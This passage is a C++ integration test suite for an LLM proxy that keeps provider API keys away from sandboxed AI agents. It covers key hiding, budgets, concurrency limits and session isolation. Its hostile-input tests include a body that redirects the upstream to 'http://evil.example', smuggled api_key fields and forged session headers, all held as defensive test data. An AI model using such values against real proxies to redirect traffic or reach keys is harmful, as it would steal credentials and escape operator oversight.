// POST /sandbox/v1/llm/chat end to end: a real control plane (real sockets, real SQLite) in
// front of fake upstreams that speak the real OpenAI and Anthropic wire formats
// (tests/llm/fake_upstream.h documents the shapes). The test plays the sandbox with a session
// token and asserts what the upstream received (the whole history in order, the key) and what
// the sandbox received (never the key).
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <set>
#include <thread>

#include "tests/integration/harness.h"
#include "tests/llm/fake_upstream.h"
#include "tests/llm/test_tls.h"

namespace airlock::testing {
namespace {

using fake::FakeUpstream;
using fake::Reply;
using http::verb;
using namespace std::chrono_literals;

constexpr const char* kKey = "sk-test-SECRET-0123456789abcdef";
constexpr const char* kKeyEnv = "AIRLOCK_TEST_LLM_KEY";

struct ProxyOptions {
  std::string ca_file;
  std::string base_url;  // default: the fake's
  std::chrono::milliseconds first_byte_timeout{10'000};
  int max_retries = 2;
  int64_t max_idle_connections = 64;
  int64_t max_concurrent_llm_calls = 4;  // sandbox.max_concurrent_llm_calls
};

class LlmProxyTest : public ::testing::Test {
 protected:
  void SetUp() override { ::setenv(kKeyEnv, kKey, 1); }

  void StartUpstream(fake::FakeUpstreamOptions o = {}) {
    o.formats = fake::ServeFormats::kBoth;
    o.expected_key = kKey;
    up_ = std::make_unique<FakeUpstream>(o);
    ASSERT_TRUE(up_->ok()) << up_->error();
  }

  void StartServer(ProxyOptions po = {}) {
    std::string dir = MakeTempDir("airlock-llm");
    script_ = dir + "/script.json";
    std::ofstream(script_) << R"({"replies": [
      {"content": "I will look around.", "tool_calls": [{"function": {"name": "shell", "arguments": {"cmd": "ls"}}}]},
      "All done."
    ]})";
    std::string base = po.base_url.empty() ? up_->base_url() : po.base_url;
    server_ = std::make_unique<TestServer>([&](controlplane::Config& c) {
      c.max_concurrent_llm_calls = po.max_concurrent_llm_calls;
      controlplane::ProviderConfig oa;
      oa.kind = "openai";
      oa.base_url = base + "/v1";
      oa.api_key_env = kKeyEnv;
      oa.ca_file = po.ca_file;
      oa.first_byte_timeout = po.first_byte_timeout;
      oa.max_retries = po.max_retries;
      oa.max_idle_connections = po.max_idle_connections;
      controlplane::ProviderConfig an = oa;
      an.kind = "anthropic";
      an.base_url = base;
      controlplane::ProviderConfig sc;
      sc.kind = "scripted";
      sc.script = script_;
      c.providers = {{"oa", oa}, {"an", an}, {"sc", sc}};
      controlplane::ModelConfig def{"oa", "gpt-test", 1.0, 2.0, Json::object()};
      controlplane::ModelConfig claude{"an", "claude-test", 3.0, 15.0, Json{{"max_tokens", 1000}}};
      controlplane::ModelConfig scripted{"sc", "scripted", 0, 0, Json::object()};
      controlplane::ModelConfig other{"oa", "gpt-other", 1.0, 2.0, Json{{"temperature", 0.5}}};
      controlplane::ModelConfig capped{"oa", "gpt-capped", 1.0, 2.0, Json::object(), 100};
      c.models = {{"default", def},
                  {"claude", claude},
                  {"scripted", scripted},
                  {"other", other},
                  {"capped", capped}};
    });
  }

  void SetUpBoth() {
    StartUpstream();
    StartServer();
  }

  // A session with `body` (JSON) whose task the sandbox has already taken from the inbox.
  std::pair<std::string, std::string> Session(
      const std::string& body = R"({"task":"count the files"})") {
    auto r = server_->Op(verb::post, "/v1/sessions", body);
    EXPECT_EQ(r.status, 201u) << r.body;
    std::string id = r.json()["id"];
    std::string token;
    {
      std::lock_guard l(server_->backend().mu);
      token = server_->backend().specs.at(id).token.Reveal();
    }
    auto inbox = server_->Sb(verb::get, "/sandbox/v1/inbox", token);
    EXPECT_EQ(inbox.status, 200u);
    return {id, token};
  }

  HttpResult Chat(const std::string& token, const Json& body) {
    return server_->Sb(verb::post, "/sandbox/v1/llm/chat", token, DumpJson(body));
  }

  // The OpenAI face, as the openai clients call it.
  HttpResult Completions(const std::string& token, const Json& body) {
    return server_->Sb(verb::post, "/v1/chat/completions", token, DumpJson(body));
  }

  Json Conversation(const std::string& id) {
    return server_->Op(verb::get, "/v1/sessions/" + id + "/messages").json()["messages"];
  }

  std::string Events(const std::string& id) {
    return server_
        ->Op(verb::get, "/v1/sessions/" + id + "/events", "", {{"Accept", "application/json"}})
        .body;
  }

  // Plays a sandbox that streams a call and hangs up as soon as it has read `until`: the close
  // resets the connection, so the control plane's next write to it fails. Returns what it read.
  std::string StreamAndHangUp(const std::string& token, const Json& body,
                              const std::string& until) {
    int fd = RawConnect(server_->sb_port());
    EXPECT_GE(fd, 0);
    const std::string b = DumpJson(body);
    const std::string req =
        "POST /sandbox/v1/llm/chat HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + token +
        "\r\nContent-Type: application/json\r\nContent-Length: " + std::to_string(b.size()) +
        "\r\n\r\n" + b;
    EXPECT_TRUE(WriteAll(fd, req));
    timeval tv{10, 0};
    ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
    std::string got;
    char buf[512];
    while (got.find(until) == std::string::npos) {
      ssize_t n = ::recv(fd, buf, sizeof(buf), 0);
      if (n <= 0) break;
      got.append(buf, static_cast<size_t>(n));
    }
    EXPECT_NE(got.find(until), std::string::npos) << got;
    linger lg{1, 0};
    ::setsockopt(fd, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg));
    ::close(fd);
    return got;
  }

  // The data of the session's `llm.call` events, once there are `n` of them (or what there is
  // after 10 s).
  std::vector<Json> LlmCalls(const std::string& id, size_t n) {
    std::vector<Json> calls;
    for (int i = 0; i < 200; ++i) {
      calls.clear();
      auto evs = ParseJson(Events(id));
      if (evs && evs->is_array()) {
        for (const auto& e : *evs) {
          if (e["type"] == "llm.call") calls.push_back(e["data"]);
        }
      }
      if (calls.size() >= n) break;
      std::this_thread::sleep_for(50ms);
    }
    return calls;
  }

  // A tool loop whose client put a system prompt before the task it was given, stored once
  // each: the system message and the task, the tool call, its result, the answer.
  void ExpectToolLoopStoredOnce(const std::string& id, const std::string& call_id,
                                const std::string& answer) {
    Json conv = Conversation(id);
    ASSERT_EQ(conv.size(), 5u) << conv.dump();
    EXPECT_EQ(conv[0]["role"], "system");
    EXPECT_EQ(conv[2]["tool_calls"][0]["id"], call_id);
    EXPECT_EQ(conv[3]["role"], "tool");
    EXPECT_EQ(conv[4]["content"], answer);
  }

  Json SessionUsage(const std::string& id) {
    return server_->Op(verb::get, "/v1/sessions/" + id).json()["usage"];
  }

  std::unique_ptr<FakeUpstream> up_;
  std::unique_ptr<TestServer> server_;
  std::string script_;
};

// Runs `fn` with this process's stderr (where the server logs) going to a file; returns what
// was logged.
template <typename F>
std::string CaptureStderr(const std::string& path, F fn) {
  std::fflush(stderr);
  int saved = ::dup(2);
  int f = ::open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  ::dup2(f, 2);
  fn();
  std::fflush(stderr);
  ::dup2(saved, 2);
  ::close(saved);
  ::close(f);
  std::ifstream lf(path);
  return std::string((std::istreambuf_iterator<char>(lf)), std::istreambuf_iterator<char>());
}

std::string Base64(std::string_view bytes) {
  static constexpr std::string_view kAlphabet =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < bytes.size(); i += 3) {
    uint32_t v = (uint8_t(bytes[i]) << 16) | (uint8_t(bytes[i + 1]) << 8) | uint8_t(bytes[i + 2]);
    for (int shift : {18, 12, 6, 0}) out += kAlphabet[(v >> shift) & 63];
  }
  if (bytes.size() - i == 1) {
    uint32_t v = uint8_t(bytes[i]) << 16;
    out += std::string{kAlphabet[(v >> 18) & 63], kAlphabet[(v >> 12) & 63], '=', '='};
  } else if (bytes.size() - i == 2) {
    uint32_t v = (uint8_t(bytes[i]) << 16) | (uint8_t(bytes[i + 1]) << 8);
    out += std::string{kAlphabet[(v >> 18) & 63], kAlphabet[(v >> 12) & 63],
                       kAlphabet[(v >> 6) & 63], '='};
  }
  return out;
}

std::string Lower(std::string s) {
  for (char& c : s) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return s;
}

std::string Upper(std::string s) {
  for (char& c : s) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
  return s;
}

// What of the test key `text` holds: any 8 characters of it in any case, or 8 characters of
// its base64 form; "" when nothing.
std::string KeyLeak(const std::string& text) {
  const std::string key = kKey;
  const std::string lower = Lower(text);
  for (size_t i = 0; i + 8 <= key.size(); ++i) {
    if (lower.find(Lower(key.substr(i, 8))) != std::string::npos) return key.substr(i, 8);
  }
  const std::string b64 = Base64(key);
  for (size_t i = 0; i + 8 <= b64.size() - 4; ++i) {
    if (text.find(b64.substr(i, 8)) != std::string::npos) return "base64 " + b64.substr(i, 8);
  }
  return "";
}

Json UserMsg(const std::string& text) { return Json{{"role", "user"}, {"content", text}}; }

TEST_F(LlmProxyTest, SendsTheWholeHistoryWithTheKeyAndStoresTheReply) {
  SetUpBoth();
  auto [id, token] = Session();
  auto r1 = Chat(token, Json{{"messages", Json::array()}});
  ASSERT_EQ(r1.status, 200u) << r1.body;
  EXPECT_EQ(r1.json()["message"]["role"], "assistant");
  EXPECT_EQ(r1.json()["message"]["content"], "reply 1");
  EXPECT_EQ(r1.body.find(kKey), std::string::npos);

  auto r2 = Chat(token, Json{{"messages", Json::array({UserMsg("and the directories?")})}});
  ASSERT_EQ(r2.status, 200u) << r2.body;
  EXPECT_EQ(r2.json()["message"]["content"], "reply 2");

  auto reqs = up_->requests();
  ASSERT_EQ(reqs.size(), 2u);
  EXPECT_EQ(reqs[1].target, "/v1/chat/completions");
  EXPECT_EQ(reqs[1].Header("authorization"), std::string("Bearer ") + kKey);
  Json sent = reqs[1].Json();
  EXPECT_EQ(sent["model"], "gpt-test");
  ASSERT_EQ(sent["messages"].size(), 3u);
  EXPECT_EQ(sent["messages"][0]["content"], "count the files");
  EXPECT_EQ(sent["messages"][1]["content"], "reply 1");
  EXPECT_EQ(sent["messages"][2]["content"], "and the directories?");

  Json conv = Conversation(id);
  ASSERT_EQ(conv.size(), 4u);
  EXPECT_EQ(conv[3]["content"], "reply 2");

  // Metered: the session's totals, the call's cost at the alias's prices, /v1/usage.
  Json s = server_->Op(verb::get, "/v1/sessions/" + id).json();
  EXPECT_EQ(s["usage"]["llm_calls"], 2);
  int64_t in = s["usage"]["input_tokens"], out = s["usage"]["output_tokens"];
  EXPECT_GT(in, 0);
  EXPECT_GT(out, 0);
  EXPECT_NEAR(s["usage"]["cost_usd"].get<double>(), (in * 1.0 + out * 2.0) / 1e6, 1e-12);
  Json usage = server_->Op(verb::get, "/v1/usage").json();
  EXPECT_EQ(usage["llm_calls"], 2);
  EXPECT_EQ(usage["by_model"]["default"]["input_tokens"], in);
  EXPECT_EQ(usage["sessions"], 1);
  EXPECT_NE(Events(id).find("\"llm.call\""), std::string::npos);
  EXPECT_TRUE(
      WaitForMetric(*server_, "airlock_llm_calls_total{model=\"default\",outcome=\"ok\"} 2"));
}

TEST_F(LlmProxyTest, ToolCallsAndToolResultsRoundTripThroughOpenAi) {
  SetUpBoth();
  auto [id, token] = Session();
  up_->Enqueue(Reply::Tools({{"call_1", "shell", R"({"cmd":"ls -l"})"}}, "Let me look."));
  Json tools = Json::array({Json{
      {"type", "function"},
      {"function",
       {{"name", "shell"},
        {"description", "run a command"},
        {"parameters", {{"type", "object"}, {"properties", {{"cmd", {{"type", "string"}}}}}}}}}}});
  auto r1 = Chat(token, Json{{"messages", Json::array()}, {"tools", tools}});
  ASSERT_EQ(r1.status, 200u) << r1.body;
  EXPECT_EQ(r1.json()["finish_reason"], "tool_calls");
  Json call = r1.json()["message"]["tool_calls"][0];
  EXPECT_EQ(call["id"], "call_1");
  EXPECT_EQ(call["function"]["name"], "shell");
  EXPECT_EQ(call["function"]["arguments"], R"({"cmd":"ls -l"})");

  auto r2 = Chat(
      token,
      Json{{"messages", Json::array({Json{
                            {"role", "tool"}, {"tool_call_id", "call_1"}, {"content", "a.txt"}}})},
           {"tools", tools}});
  ASSERT_EQ(r2.status, 200u) << r2.body;
  Json sent = up_->requests().back().Json();
  EXPECT_EQ(sent["tools"][0]["function"]["name"], "shell");
  ASSERT_EQ(sent["messages"].size(), 3u);
  EXPECT_EQ(sent["messages"][1]["tool_calls"][0]["id"], "call_1");
  EXPECT_EQ(sent["messages"][2]["role"], "tool");
  EXPECT_EQ(sent["messages"][2]["tool_call_id"], "call_1");
}

TEST_F(LlmProxyTest, AnthropicGetsItsOwnShapeAndTheSandboxGetsOpenAis) {
  SetUpBoth();
  auto [id, token] = Session(R"({"task":"hi","model":"claude"})");
  up_->Enqueue(Reply::Tools({{"toolu_1", "shell", R"({"cmd":"pwd"})"}}, "Checking."));
  auto r1 = Chat(
      token,
      Json{{"messages", Json::array({Json{{"role", "system"}, {"content", "You are careful."}}})}});
  ASSERT_EQ(r1.status, 200u) << r1.body;
  Json msg = r1.json()["message"];
  EXPECT_EQ(msg["content"], "Checking.");
  EXPECT_EQ(msg["tool_calls"][0]["id"], "toolu_1");
  EXPECT_EQ(ParseJson(msg["tool_calls"][0]["function"]["arguments"].get<std::string>()).value(),
            Json({{"cmd", "pwd"}}));
  EXPECT_EQ(r1.json()["finish_reason"], "tool_calls");

  auto r2 = Chat(token, Json{{"messages", Json::array({Json{{"role", "tool"},
                                                            {"tool_call_id", "toolu_1"},
                                                            {"content", "/home"}}})}});
  ASSERT_EQ(r2.status, 200u) << r2.body;
  auto req = up_->requests().back();
  EXPECT_EQ(req.target, "/v1/messages");
  EXPECT_EQ(req.Header("x-api-key"), kKey);
  EXPECT_FALSE(req.Header("anthropic-version").empty());
  Json sent = req.Json();
  EXPECT_EQ(sent["model"], "claude-test");
  EXPECT_EQ(sent["max_tokens"], 1000);
  EXPECT_EQ(sent["system"], "You are careful.");
  ASSERT_EQ(sent["messages"].size(), 3u);
  EXPECT_EQ(sent["messages"][0]["role"], "user");
  EXPECT_EQ(sent["messages"][1]["role"], "assistant");
  EXPECT_EQ(sent["messages"][1]["content"].back()["type"], "tool_use");
  EXPECT_EQ(sent["messages"][2]["content"][0]["type"], "tool_result");
  EXPECT_EQ(sent["messages"][2]["content"][0]["tool_use_id"], "toolu_1");
}

// The chunks of an SSE body, parsed: the JSON of every `data:` line but [DONE].
std::vector<Json> SseChunks(const std::string& body, bool* done) {
  std::vector<Json> out;
  *done = false;
  size_t pos = 0;
  while ((pos = body.find("data: ", pos)) != std::string::npos) {
    size_t end = body.find("\n\n", pos);
    std::string data = body.substr(pos + 6, end - pos - 6);
    if (data == "[DONE]") {
      *done = true;
    } else if (auto j = ParseJson(data)) {
      out.push_back(*j);
    }
    pos = end;
  }
  return out;
}

TEST_F(LlmProxyTest, StreamingPassesChunksThroughAndStoresTheAssembledReply) {
  for (const char* model : {"default", "claude"}) {
    SCOPED_TRACE(model);
    if (!up_) SetUpBoth();
    auto [id, token] = Session(fmt::format(R"({{"task":"hi","model":"{}"}})", model));
    up_->Enqueue(Reply::Text("one two three four five six").WithChunks(4));
    auto r = Chat(token, Json{{"messages", Json::array()}, {"stream", true}, {"model", model}});
    ASSERT_EQ(r.status, 200u) << r.body;
    EXPECT_EQ(r.headers["Content-Type"], "text/event-stream");
    EXPECT_EQ(r.body.find(kKey), std::string::npos);
    bool done = false;
    auto chunks = SseChunks(r.body, &done);
    EXPECT_TRUE(done);
    std::string text;
    bool usage = false;
    for (const auto& c : chunks) {
      EXPECT_EQ(c["object"], "chat.completion.chunk");
      for (const auto& ch : c["choices"]) {
        if (ch["delta"].contains("content") && ch["delta"]["content"].is_string())
          text += ch["delta"]["content"];
      }
      usage = usage || c.contains("usage");
    }
    EXPECT_GE(chunks.size(), 4u);
    EXPECT_EQ(text, "one two three four five six");
    EXPECT_TRUE(usage);
    Json conv = Conversation(id);
    EXPECT_EQ(conv.back()["content"], "one two three four five six");
    EXPECT_EQ(server_->Op(verb::get, "/v1/sessions/" + id).json()["usage"]["llm_calls"], 1);
  }
}

TEST_F(LlmProxyTest, AnUpstreamAuthErrorNeverShowsTheKeyOrTheProvidersWords) {
  SetUpBoth();
  auto [id, token] = Session();
  up_->Enqueue(Reply::Error(
      401, std::string("Incorrect API key provided: ") + kKey + ". You can find your key at ..."));
  // The server logs to this process's stderr: capture it around the call.
  std::string log_path = server_->home() + "/stderr.log";
  std::fflush(stderr);
  int saved = ::dup(2);
  int f = ::open(log_path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  ::dup2(f, 2);
  auto r = Chat(token, Json{{"messages", Json::array({UserMsg("hello")})}});
  std::fflush(stderr);
  ::dup2(saved, 2);
  ::close(saved);
  ::close(f);
  std::ifstream lf(log_path);
  std::string logged((std::istreambuf_iterator<char>(lf)), std::istreambuf_iterator<char>());
  EXPECT_NE(logged.find("llm call"), std::string::npos) << "the failure is logged";
  EXPECT_EQ(logged.find("sk-test"), std::string::npos) << logged;
  EXPECT_EQ(logged.find("Incorrect API key"), std::string::npos) << logged;
  EXPECT_EQ(r.status, 502u);
  EXPECT_EQ(r.error_code(), "upstream_error");
  EXPECT_EQ(r.body.find(kKey), std::string::npos);
  EXPECT_EQ(r.body.find("sk-test"), std::string::npos);
  EXPECT_EQ(r.body.find("Incorrect API key"), std::string::npos);
  EXPECT_NE(r.body.find("credentials"), std::string::npos);
  std::string events = Events(id);
  EXPECT_EQ(events.find("sk-test"), std::string::npos);
  EXPECT_NE(events.find("upstream_error"), std::string::npos);
  // Nothing of a failed call joins the conversation: a retry sends the same new messages.
  EXPECT_EQ(Conversation(id).size(), 1u);
  EXPECT_EQ(up_->request_count(), 1u) << "an auth error is not retried";
}

TEST_F(LlmProxyTest, ARefusedRequestTellsTheAgentWhyWithoutTheKey) {
  SetUpBoth();
  auto [id, token] = Session();
  up_->Enqueue(Reply::Error(
      400, std::string("This model's maximum context length is 8192 tokens (key ") + kKey + ")"));
  auto r = Chat(token, Json{{"messages", Json::array()}});
  EXPECT_EQ(r.status, 502u);
  EXPECT_NE(r.body.find("maximum context length"), std::string::npos) << r.body;
  EXPECT_EQ(r.body.find(kKey), std::string::npos);
  EXPECT_EQ(r.body.find("sk-test-S"), std::string::npos);
}

TEST_F(LlmProxyTest, RateLimitsAndServerErrorsAreRetriedHonouringRetryAfter) {
  SetUpBoth();
  auto [id, token] = Session();
  up_->Enqueue({Reply::RateLimited(1), Reply::Error(503, "busy")});
  auto start = std::chrono::steady_clock::now();
  auto r = Chat(token, Json{{"messages", Json::array()}});
  ASSERT_EQ(r.status, 200u) << r.body;
  EXPECT_EQ(up_->request_count(), 3u);
  // Retry-After: 1 was honoured (an ordering fact, not a performance threshold).
  EXPECT_GE(std::chrono::steady_clock::now() - start, 1s);

  up_->Enqueue({Reply::Error(500, "a"), Reply::Error(502, "b"), Reply::Error(500, "c")});
  auto r2 = Chat(token, Json{{"messages", Json::array()}});
  EXPECT_EQ(r2.status, 502u);
  EXPECT_NE(r2.body.find("after 3 attempts"), std::string::npos) << r2.body;
  EXPECT_EQ(up_->request_count(), 6u);
}

TEST_F(LlmProxyTest, ConnectionFailuresAreRetriedThenReportedAsBadGateway) {
  SetUpBoth();
  auto [id, token] = Session();
  up_->Enqueue(Reply::CloseBeforeResponse());
  auto ok = Chat(token, Json{{"messages", Json::array()}});
  EXPECT_EQ(ok.status, 200u) << ok.body;
  // The first close lands on the pooled connection and reads as a stale keep-alive: a fresh
  // connection at once, not a retry. The next three are the three attempts.
  up_->Enqueue({Reply::CloseBeforeResponse(), Reply::CloseBeforeResponse(), Reply::Garbage(),
                Reply::CloseBeforeResponse()});
  auto bad = Chat(token, Json{{"messages", Json::array()}});
  EXPECT_EQ(bad.status, 502u) << bad.body;
  up_->Enqueue(Reply::NonJson());
  auto garbage = Chat(token, Json{{"messages", Json::array()}});
  EXPECT_EQ(garbage.status, 502u);
  EXPECT_NE(garbage.body.find("malformed"), std::string::npos) << garbage.body;
}

TEST_F(LlmProxyTest, ASilentUpstreamIsAGatewayTimeout) {
  StartUpstream();
  StartServer(ProxyOptions{.first_byte_timeout = 300ms});
  auto [id, token] = Session();
  up_->Enqueue(Reply::Default().WithDelay(3s));
  auto r = Chat(token, Json{{"messages", Json::array()}});
  EXPECT_EQ(r.status, 504u) << r.body;
  EXPECT_EQ(r.error_code(), "upstream_timeout");
  // A stream that goes silent half way ends with an error event, not a hang.
  up_->Enqueue(Reply::Text("a b c d e f").WithChunks(6).HangAfterEvents(2));
  auto s = Chat(token, Json{{"messages", Json::array()}, {"stream", true}});
  EXPECT_EQ(s.status, 200u);
  bool done = false;
  auto chunks = SseChunks(s.body, &done);
  EXPECT_FALSE(done);
  ASSERT_FALSE(chunks.empty());
  EXPECT_EQ(chunks.back()["error"]["code"], "upstream_timeout") << s.body;
  EXPECT_EQ(Conversation(id).size(), 1u);
}

TEST_F(LlmProxyTest, BudgetsStopTheSessionWith402) {
  SetUpBoth();
  auto [id, token] = Session(R"({"task":"t","limits":{"max_tokens":5}})");
  EXPECT_EQ(Chat(token, Json{{"messages", Json::array()}}).status, 200u);
  auto r = Chat(token, Json{{"messages", Json::array()}});
  EXPECT_EQ(r.status, 402u) << r.body;
  EXPECT_EQ(r.error_code(), "budget_exhausted");
  EXPECT_EQ(up_->request_count(), 1u);
  EXPECT_NE(Events(id).find("budget_exhausted"), std::string::npos);

  auto [id2, token2] = Session(R"({"task":"t","limits":{"max_cost_usd":0.000001}})");
  EXPECT_EQ(Chat(token2, Json{{"messages", Json::array({UserMsg(std::string(200, 'x'))})}}).status,
            200u);
  EXPECT_EQ(Chat(token2, Json{{"messages", Json::array()}}).status, 402u);
}

// With sandbox.max_concurrent_llm_calls = 1, calls of one session are made one at a time.
TEST_F(LlmProxyTest, TwoCallsOfOneSessionNeverInterleave) {
  StartUpstream();
  StartServer({.max_concurrent_llm_calls = 1});
  auto [id, token] = Session();
  up_->Enqueue(Reply::Default().WithDelay(1500ms));
  HttpResult first;
  std::thread t([&, token = token] {
    first = Chat(token, Json{{"messages", Json::array({UserMsg("first")})}});
  });
  ASSERT_TRUE(up_->WaitForRequests(1));
  auto second = Chat(token, Json{{"messages", Json::array({UserMsg("second")})}});
  EXPECT_EQ(second.status, 409u) << second.body;
  // An operator message arriving meanwhile is taken from the inbox only after the call.
  EXPECT_EQ(
      server_->Op(verb::post, "/v1/sessions/" + id + "/messages", R"({"content":"follow-up"})")
          .status,
      202u);
  auto inbox = server_->Sb(verb::get, "/sandbox/v1/inbox?wait=10", token);
  EXPECT_EQ(inbox.status, 200u);
  t.join();
  EXPECT_EQ(first.status, 200u) << first.body;
  Json conv = Conversation(id);
  ASSERT_EQ(conv.size(), 4u);
  EXPECT_EQ(conv[1]["content"], "first");
  EXPECT_EQ(conv[2]["role"], "assistant");
  EXPECT_EQ(conv[3]["content"], "follow-up");
}

// Calls of one session run side by side up to sandbox.max_concurrent_llm_calls; each stores its
// exchange once, when it ends, and the one past the limit is refused without reaching the
// upstream.
TEST_F(LlmProxyTest, CallsOfOneSessionRunSideBySideUpToTheLimit) {
  StartUpstream();
  StartServer({.max_concurrent_llm_calls = 2});
  auto [id, token] = Session();
  up_->Enqueue(Reply::Text("slow").WithDelay(1500ms));
  up_->Enqueue(Reply::Text("fast").WithDelay(300ms));
  HttpResult slow, fast;
  std::thread a([&, token = token] {
    slow = Chat(token, Json{{"messages", Json::array({UserMsg("first")})}});
  });
  ASSERT_TRUE(up_->WaitForRequests(1));
  std::thread b([&, token = token] {
    fast = Chat(token, Json{{"messages", Json::array({UserMsg("second")})}});
  });
  ASSERT_TRUE(up_->WaitForRequests(2));
  auto third = Chat(token, Json{{"messages", Json::array({UserMsg("third")})}});
  EXPECT_EQ(third.status, 409u) << third.body;
  EXPECT_NE(third.body.find("max_concurrent_llm_calls"), std::string::npos) << third.body;
  a.join();
  b.join();
  EXPECT_EQ(slow.status, 200u) << slow.body;
  EXPECT_EQ(fast.status, 200u) << fast.body;
  EXPECT_EQ(up_->requests().size(), 2u);
  // Each exchange once, in the order the calls ended; both saw the conversation without the
  // other's exchange.
  Json conv = Conversation(id);
  ASSERT_EQ(conv.size(), 5u) << conv.dump();
  EXPECT_EQ(conv[1]["content"], "second");
  EXPECT_EQ(conv[2]["content"], "fast");
  EXPECT_EQ(conv[3]["content"], "first");
  EXPECT_EQ(conv[4]["content"], "slow");
  EXPECT_EQ(up_->requests()[1].body.find("\"first\""), std::string::npos);
  EXPECT_EQ(server_->Op(verb::get, "/v1/sessions/" + id).json()["usage"]["llm_calls"], 2);
}

// The budget holds under concurrency: each call in flight reserves what it may spend (its
// conversation and its max_tokens, else 4096), and a call that the reservations leave no room
// for is refused (429) without reaching the upstream. Once the calls settle at what they
// really cost, there is room again.
TEST_F(LlmProxyTest, CallsInFlightReserveTheBudgetAndSettleAtWhatTheyCost) {
  SetUpBoth();
  auto [id, token] = Session(R"({"task":"t","limits":{"max_tokens":5000}})");
  up_->Enqueue(Reply::Default().WithDelay(1500ms));
  up_->Enqueue(Reply::Default().WithDelay(1500ms));
  HttpResult r1, r2;
  std::thread a([&, token = token] {
    r1 = Chat(token, Json{{"messages", Json::array({UserMsg("one")})}});
  });
  ASSERT_TRUE(up_->WaitForRequests(1));
  std::thread b([&, token = token] {
    r2 = Chat(token, Json{{"messages", Json::array({UserMsg("two")})}});
  });
  ASSERT_TRUE(up_->WaitForRequests(2));
  // ~8200 tokens reserved of 5000: no room for a third, though nothing is spent yet.
  auto refused = Chat(token, Json{{"messages", Json::array({UserMsg("three")})}});
  EXPECT_EQ(refused.status, 429u) << refused.body;
  EXPECT_EQ(refused.error_code(), "resource_exhausted");
  EXPECT_NE(refused.body.find("reserved"), std::string::npos) << refused.body;
  a.join();
  b.join();
  EXPECT_EQ(r1.status, 200u) << r1.body;
  EXPECT_EQ(r2.status, 200u) << r2.body;
  EXPECT_EQ(up_->requests().size(), 2u);
  // Settled at the fake's usage (a few tokens each): the next call fits again.
  auto again = Chat(token, Json{{"messages", Json::array({UserMsg("three")})}});
  EXPECT_EQ(again.status, 200u) << again.body;
  // A call's own max_tokens is what it reserves: two small calls fit beside each other.
  auto [id2, token2] = Session(R"({"task":"t","limits":{"max_tokens":5000}})");
  up_->Enqueue(Reply::Default().WithDelay(1000ms));
  HttpResult small;
  const Json capped{{"model", "default"},
                    {"max_tokens", 50},
                    {"messages", Json::array({UserMsg("t"), UserMsg("x")})}};
  std::thread c([&, token2 = token2] { small = Completions(token2, capped); });
  ASSERT_TRUE(up_->WaitForRequests(4));
  auto beside = Completions(token2, capped);
  EXPECT_EQ(beside.status, 200u) << beside.body;
  c.join();
  EXPECT_EQ(small.status, 200u) << small.body;
}

TEST_F(LlmProxyTest, ASessionTokenReachesOnlyItsOwnHistory) {
  SetUpBoth();
  auto [a, token_a] = Session(R"({"task":"secret task of A"})");
  auto [b, token_b] = Session(R"({"task":"task of B"})");
  ASSERT_EQ(Chat(token_a, Json{{"messages", Json::array({UserMsg("A's words")})}}).status, 200u);
  ASSERT_EQ(Chat(token_b, Json{{"messages", Json::array()}}).status, 200u);
  std::string sent_b = up_->requests().back().body;
  EXPECT_EQ(sent_b.find("secret task of A"), std::string::npos);
  EXPECT_EQ(sent_b.find("A's words"), std::string::npos);
  // Naming the other session does not help: the session is always the token's.
  auto forged = server_->Sb(verb::post, "/sandbox/v1/llm/chat", token_b, R"({"messages":[]})",
                            {{"SESSION_ID", a}});
  EXPECT_EQ(forged.status, 403u);
  auto hist = server_->Sb(verb::get, "/sandbox/v1/history", token_b);
  EXPECT_EQ(hist.body.find("secret task of A"), std::string::npos);
  EXPECT_EQ(Conversation(a).size(), 3u) << "B's calls never extend A's history";
  // A revoked token (the session ended) opens nothing.
  EXPECT_EQ(server_->Op(verb::delete_, "/v1/sessions/" + a).status, 200u);
  EXPECT_EQ(Chat(token_a, Json{{"messages", Json::array()}}).status, 401u);
}

TEST_F(LlmProxyTest, TheSandboxCannotPickTheUpstreamOrItsParameters) {
  SetUpBoth();
  auto [id, token] = Session();
  for (const char* body :
       {R"({"messages":[],"base_url":"http://evil.example"})", R"({"messages":[],"temperature":2})",
        R"({"messages":[],"api_key":"x"})"}) {
    auto r = server_->Sb(verb::post, "/sandbox/v1/llm/chat", token, body);
    EXPECT_EQ(r.status, 400u) << body;
  }
  auto other = Chat(token, Json{{"messages", Json::array()}, {"model", "other"}});
  EXPECT_EQ(other.status, 403u) << "aliases the operator did not allow for this session";
  // Aliases allowed at creation may be picked per call; the alias's params come from the operator.
  auto [id2, token2] = Session(R"({"task":"t","models":["default","other"]})");
  ASSERT_EQ(Chat(token2, Json{{"messages", Json::array()}, {"model", "other"}}).status, 200u);
  Json sent = up_->requests().back().Json();
  EXPECT_EQ(sent["model"], "gpt-other");
  EXPECT_EQ(sent["temperature"], 0.5);
  EXPECT_EQ(server_->Op(verb::post, "/v1/sessions", R"({"task":"t","model":"nope"})").status, 400u);
  EXPECT_EQ(server_->Op(verb::post, "/v1/sessions", R"({"task":"t","models":["nope"]})").status,
            400u);
}

TEST_F(LlmProxyTest, HostileBodiesGetClearErrorsAndChangeNothing) {
  SetUpBoth();
  auto [id, token] = Session();
  const std::vector<std::string> bodies = {
      "not json",
      "[]",
      R"({})",
      R"({"messages":{}})",
      R"({"messages":[{"role":"root","content":"x"}]})",
      R"({"messages":[{"role":"user"}]})",
      R"({"messages":[{"role":"user","content":7}]})",
      R"({"messages":[{"role":"assistant","content":"I say so"}]})",
      R"({"messages":[{"role":"tool","content":"x"}]})",
      R"({"messages":[{"role":"user","content":"x","extra":1}]})",
      R"({"messages":[],"tools":[{"type":"function","function":{"name":"bad name!"}}]})",
      R"({"messages":[],"stream":"yes"})",
      R"({"messages":[],"model":7})",
      std::string(R"({"messages":[)") + std::string(5000, '[') + "]}",
  };
  for (const auto& b : bodies) {
